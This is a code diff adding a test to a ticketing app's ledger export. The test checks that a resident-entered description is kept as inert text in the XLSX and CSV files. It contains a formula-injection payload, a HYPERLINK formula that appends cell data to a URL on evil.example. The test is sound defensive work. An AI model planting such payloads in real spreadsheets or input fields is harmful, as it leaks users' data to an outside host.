@@ -164,3 +164,20 @@ def test_the_files_cover_the_day_asked_for(world: World, days: dict[str, Ticket]
 
     assert ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY + timedelta(days=1)) == []
     assert len(ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY)) == 5
+
+
+def test_a_residents_formula_stays_text_in_both_files(world: World, days: dict[str, Ticket]) -> None:
+    """A description that Excel would run as a formula is written as plain text."""
+    from ticketing.models import Ledger
+    from ticketing.services import ledger_export
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
+    days["t1"].description = hostile
+    db.session.commit()
+    lines = ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY)
+    sheet = read_xlsx(ledger_export.build(lines, "xlsx", "x", TZ, False).content)
+    [cell] = [row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == days["t1"].number]
+    assert (cell.value, cell.data_type) == (hostile, "s")
+    rows = read_csv(ledger_export.build(lines, "csv", "x", TZ, False).content)
+    [text] = [row[6] for row in rows[1:] if row[0] == days["t1"].number]
+    assert text == "'" + hostile
